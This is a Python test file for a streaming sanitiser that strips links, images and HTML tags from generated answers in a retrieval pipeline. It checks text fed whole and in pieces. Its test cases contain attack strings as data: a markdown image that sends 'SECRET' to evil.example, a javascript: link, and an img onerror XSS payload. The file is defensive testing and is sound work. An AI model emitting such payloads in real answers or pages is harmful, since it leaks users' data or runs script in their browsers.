"""Texts without links, pictures and tags, however they come in."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tunedd_api.rag.answering.grounding.unlinking import Unlinking

CASES = [
    ("See ![t](https://evil.example/?q=SECRET) there.", "See t there."),
    ("[pay](javascript:alert(1)) now", "pay now"),
    ("[a][ref] and [ref]: https://evil.example", "a and [ref] : https://evil.example"),
    ("<img src=x onerror=alert(1)>", "‹img src=x onerror=alert(1)>"),
    ("</p><!-- x -->", "‹/p>‹!-- x -->"),
    ("Bees dance. [1] They hum. [2]", "Bees dance. [1] They hum. [2]"),
    ("Bees dance. [1][2]", "Bees dance. [1][2]"),
    ("a < b, 3<4, x [y] (z)", "a < b, 3<4, x [y] (z)"),
    ("Wow! [sic] (really)", "Wow! [sic] (really)"),
    ("open [end", "open [end"),
    ("cut [a](https://evil", "cut [a] (https://evil"),
    (f"[a](https://{'x' * 2000})", "a"),
]


def passed(text: str, sizes: list[int]) -> str:
    """A text that comes in pieces of these sizes, again and again."""
    unlinking, said, at = Unlinking(), "", 0
    while at < len(text):
        size = sizes[at % len(sizes)]
        said += unlinking.feed(text[at : at + size])
        at += size
    return said + unlinking.finish()


@pytest.mark.parametrize(("text", "shown"), CASES)
def test_whole(text: str, shown: str) -> None:
    """Links become what they are called, tags become text, and everything else stays."""
    assert passed(text, [len(text)]) == shown


@given(
    st.sampled_from([case for case in CASES if len(case[0]) < 200]),
    st.lists(st.integers(1, 9), min_size=1),
)
def test_in_pieces(case: tuple[str, str], sizes: list[int]) -> None:
    """It comes to the same in whatever pieces the text comes."""
    assert passed(case[0], sizes) == case[1]


@given(st.text(alphabet="[]()!<a1:/ \n", max_size=60), st.lists(st.integers(1, 9), min_size=1))
def test_nothing_is_left(text: str, sizes: list[int]) -> None:
    """Whatever comes in, no address stands behind a name, and no tag begins."""
    said = passed(text, sizes)
    assert "](" not in said
    assert "<a" not in said
    assert "</" not in said
